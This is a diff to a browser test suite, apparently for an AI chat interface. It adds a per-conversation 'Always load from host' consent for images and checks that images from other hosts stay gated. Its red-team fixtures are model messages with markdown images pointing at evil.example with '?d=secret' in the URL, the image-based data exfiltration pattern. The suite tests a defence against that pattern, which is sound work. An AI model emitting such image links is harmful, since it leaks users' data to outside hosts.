@@ -43,7 +43,9 @@ describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium'
    */
   const offOrigin: Array<{ url: string; clicked: boolean; blocked?: boolean }> = [];
   let clicking = false;
-  const unclicked = () => offOrigin.filter((request) => !request.clicked && !request.blocked).map((request) => request.url);
+  /** Origins the user chose for the whole conversation ("Always load from host in this conversation"): consented. */
+  const consentedOrigins = new Set<string>();
+  const unclicked = () => offOrigin.filter((request) => !request.clicked && !request.blocked && !consentedOrigins.has(new URL(request.url).origin)).map((request) => request.url);
 
   /** Sends one turn and waits for it to end and for every formula and diagram to settle; returns the long tasks it caused. */
   async function turn(events: AgentEvent[]): Promise<number[]> {
@@ -211,6 +213,22 @@ describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium'
       { type: 'message-complete', message: { role: 'model', content: [{ text: 'Again: ![chart](https://evil.example/final.png?d=secret)' }] }, messageKey: key },
       { type: 'turn-end', finishReason: 'stop' },
     ]);
+    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
+    expect(unclicked()).toEqual([]);
+  }, 60_000);
+
+  it('one host for this conversation: after "Always load from pics.example", its later images load, other hosts still ask', async () => {
+    await turn(answer('![one](https://pics.example/one.png)'));
+    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__host').textContent()).toBe('Always load from pics.example in this conversation');
+    const before = offOrigin.length;
+    await click('.acu-message button.acu-media-gate__host');
+    consentedOrigins.add('https://pics.example');
+    expect(offOrigin.slice(before).map((request) => request.url)).toEqual(['https://pics.example/one.png']);
+    // Later, a message image and an artifact of that origin load with no click; evil.example is not covered.
+    const later = offOrigin.length;
+    await turn(answer('![two](https://pics.example/two.png) ![leak](https://evil.example/host.png?d=secret)', [media('pics', 'https://pics.example/three.png')]));
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
+    expect(offOrigin.slice(later).map((request) => request.url).sort()).toEqual(['https://pics.example/three.png', 'https://pics.example/two.png']);
     expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
     expect(unclicked()).toEqual([]);
   }, 60_000);
